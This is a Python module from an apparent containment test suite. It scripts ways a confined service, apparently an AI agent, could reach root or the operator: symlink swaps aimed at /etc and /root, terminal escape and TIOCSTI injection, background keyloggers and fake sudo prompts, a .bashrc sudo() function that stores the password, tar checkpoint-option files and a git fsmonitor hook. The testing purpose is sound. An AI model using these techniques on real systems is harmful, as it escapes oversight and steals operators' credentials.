"""What runs outside, and touches what the service has left."""

import os
import subprocess
import time
from pathlib import Path

from corpus.kit import Attempt, Class, Seen, Told, append, leave, link, read, replace

CLASS = Class(
    "outside",
    "Programs with more rights that touch what the service wrote: the service manager, a switch of the machine's"
    " configuration, a copy of the state, the operator's terminal. Nothing breaks out here; something is let out.",
)
attack = CLASS.attack


def _root_wrote(path: str) -> Seen:
    return Seen(lambda outside, mark: mark in outside.run(f"cat {path} 2> /dev/null; rm -f {path}"))


@attack("a link in place of the log", "CWE-59", _root_wrote("/etc/taken-by-log"), moment="restart")
def _(at: Attempt) -> object:
    """Replaces its log by a link to a file of root's, which the service manager then opens as root."""
    replace(f"{at.workspace}/attacks/says", f"{at.mark}\n", 0o644)
    return link(f"{at.state}/logs/gateway.log", "/etc/taken-by-log")


@attack(
    "a link in place of a directory",
    "CWE-59",
    Seen(lambda outside, _: outside.run("stat --format %U /etc/shop").strip() != "root"),
    moment="switch",
)
def _(at: Attempt) -> object:
    """Replaces a directory by a link to one of root's, which a switch would give to the service."""
    return link(f"{at.state}/logs", "/etc/shop")


@attack(
    "a link in place of a document",
    "CWE-59",
    Seen(lambda outside, _: os.path.exists("/etc/taken-by-document")),
    moment="switch",
)
def _(at: Attempt) -> object:
    """Replaces a document by a link to a file that does not exist, which a switch would make as root."""
    return link(f"{at.workspace}/SOUL.md", "/etc/taken-by-document")


# ---- terminals ----


def _in_terminal(text: str) -> Seen:
    return Seen(lambda outside, mark: text.replace("MARK", mark) in outside.terminal)


ESCAPES = (
    ("the terminal's title", "CWE-150", "\x1b]0;MARK\x07", "sets the title of the operator's terminal"),
    (
        "the terminal's clipboard",
        "OSC 52",
        "\x1b]52;c;MARK\x07",
        "puts a command into the clipboard, which the operator pastes",
    ),
    (
        "lines that are gone",
        "CWE-150",
        "MARK\x1b[2K\x1b[1A\x1b[2K",
        "removes lines from the screen that would give it away",
    ),
    (
        "a link with another name",
        "OSC 8",
        "\x1b]8;;http://MARK\x1b\\your bank\x1b]8;;\x1b\\",
        "shows a link that leads elsewhere than it says",
    ),
    (
        "a question to the terminal",
        "CVE-2003-0063",
        "\x1bP$qMARK\x1b\\",
        "asks the terminal something, whose answer is typed into the shell",
    ),
)


def escapes(name: str, known: str, text: str, what: str) -> None:
    """Adds an attack with a sequence in the log, and one with it in the answer to a command."""

    def in_log(at: Attempt) -> object:
        return os.write(1, f"{text.replace('MARK', at.mark)}\n".encode())

    in_log.__doc__ = f"Prints what {what}, when the log is read."
    attack(f"{name}, by the log", known, _in_terminal(text), moment="log")(in_log)

    def in_answer(at: Attempt) -> object:
        return os.write(1, f"{text.replace('MARK', at.mark)}\n".encode())

    in_answer.__doc__ = f"Answers a command of the operator's with what {what}."
    attack(f"{name}, by an answer", known, _in_terminal(text), moment="command")(in_answer)


for escape in ESCAPES:
    escapes(*escape)


@attack("a name of a process", "CWE-150", _in_terminal("\x1b]0;MARK\x07"), moment="log")
def _(at: Attempt) -> object:
    """Gives a process a name that sets the terminal's title, when the status of the service is shown."""
    return subprocess.Popen(
        ["python3", "-c", "import time; time.sleep(15)", f"\x1b]0;{at.mark}\x07"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ).pid


@attack("the operator's variables", "CWE-526", Told("environment"), moment="command")
def _(at: Attempt) -> object:
    """Reads the variables of whoever asks it something."""
    return os.environ


@attack(
    "keys for the operator's shell",
    "TIOCSTI",
    Seen(lambda outside, mark: f"got {mark}" in outside.terminal),
    moment="prompt",
)
def _(at: Attempt) -> object:
    """Types into the terminal of whoever asks it something, and the shell obeys afterwards."""
    import fcntl
    import termios

    for place in (0, 1, 2):
        try:
            for key in f"{at.mark}\n":
                fcntl.ioctl(place, termios.TIOCSTI, key.encode())
            return "typed"
        except OSError:
            continue
    return "no terminal"


@attack("what the operator types", "T1056.001", Told("typed"), moment="command")
def _(at: Attempt) -> object:
    """Reads what the operator types while it answers."""
    return os.read(0, 4096).decode(errors="replace")


def _terminal() -> int:
    """The operator's terminal; -1 if none came in."""
    return next((os.dup(place) for place in (0, 1, 2) if os.isatty(place)), -1)


@attack("what the operator types later", "T1056.001", Told("typed-later"), moment="prompt")
def _(at: Attempt) -> object:
    """Leaves a process behind at the operator's terminal, which reads what is typed for other programs."""
    terminal = _terminal()
    if terminal < 0:
        return "no terminal"

    def listen() -> None:
        found = b""
        for _ in range(2):
            found += os.read(terminal, 4096)
            Path(f"{at.workspace}/attacks/late").write_bytes(found)

    return leave(listen)


@attack(
    "a question in another's name",
    "T1056.002",
    Seen(lambda outside, mark: mark in outside.terminal.partition("after:")[2]),
    moment="prompt",
)
def _(at: Attempt) -> object:
    """Leaves a process behind that asks for a password in the operator's terminal, after it has answered."""
    terminal = _terminal()
    if terminal < 0:
        return "no terminal"

    def ask() -> None:
        time.sleep(2)
        os.write(terminal, f"[sudo] password for alice ({at.mark}): ".encode())

    return leave(ask)


# ---- the operator's own hands ----


@attack(
    "a password for sudo",
    "T1056.002",
    Seen(lambda outside, _: outside.canaries["typed"] in outside.run("cat /home/alice/.taken 2> /dev/null")),
    moment="login",
)
def _(at: Attempt) -> object:
    """Puts a function called `sudo` into the operator's shell, which asks for the password and keeps it."""
    return append(
        "/home/alice/.bashrc", "sudo() { read -r -s -p 'password: ' word; echo $word > ~/.taken; }\n"
    )


def _handled(name: str) -> Seen:
    return Seen(
        lambda outside, mark: mark
        in outside.run(f"cat /root/ran-{name} 2> /dev/null; rm -f /root/ran-{name}")
    )


@attack("a build by root", "T1204", _handled("build"), moment="hand")
def _(at: Attempt) -> object:
    """Leaves a program's sources, and the operator builds and installs them as root."""
    return replace(f"{at.workspace}/install.sh", f"echo {at.mark} > /root/ran-build\n", 0o644)


@attack("files that are called like options", "CWE-88", _handled("tar"), moment="hand")
def _(at: Attempt) -> object:
    """Leaves files called like options, and the operator packs all of them with `tar *` as root."""
    replace(f"{at.workspace}/run.sh", f"#!/bin/sh\necho {at.mark} > /root/ran-tar\n")
    for name in ("--checkpoint=1", "--checkpoint-action=exec=sh run.sh"):
        replace(f"{at.workspace}/{name}", "", 0o644)
    return "left"


@attack("a repository of its own", "CVE-2022-24765", _handled("git"), moment="hand")
def _(at: Attempt) -> object:
    """Makes its workspace a repository that runs a program, and the operator, as root, tells git to trust it."""
    replace(f"{at.workspace}/monitor.sh", f"#!/bin/sh\necho {at.mark} > /root/ran-git\n")
    subprocess.run([at.git, "init", "--quiet", at.workspace], check=True, capture_output=True)
    subprocess.run(
        [at.git, "-C", at.workspace, "config", "core.fsmonitor", f"{at.workspace}/monitor.sh"], check=True
    )
    return read(f"{at.workspace}/.git/config")


@attack("a note", "CWE-150", _in_terminal("\x1b]0;MARK\x07"), moment="hand")
def _(at: Attempt) -> object:
    """Leaves a note, and the operator shows it with `cat` in a terminal."""
    return replace(f"{at.workspace}/NOTES.md", f"\x1b]0;{at.mark}\x07\n", 0o644)


@attack("a link in place of what root writes", "CWE-59", _root_wrote("/etc/taken-by-hand"), moment="hand")
def _(at: Attempt) -> object:
    """Leaves a link, and the operator, as root, copies a list into the file of that name."""
    replace(f"{at.workspace}/list.txt", at.mark, 0o644)
    return link(f"{at.workspace}/todo.txt", "/etc/taken-by-hand")


@attack(
    "root's file in the copy",
    "CWE-59",
    Seen(
        lambda outside, _: outside.canaries["root-secret"]
        in outside.run("zcat /root/copy-of-{column} | strings".format(**outside.facts) + " || true")
    ),
    moment="copy",
)
def _(at: Attempt) -> object:
    """Leaves a link to root's file, so that it gets into the copy of the state."""
    return link(f"{at.workspace}/photo.jpg", "/root/secret")
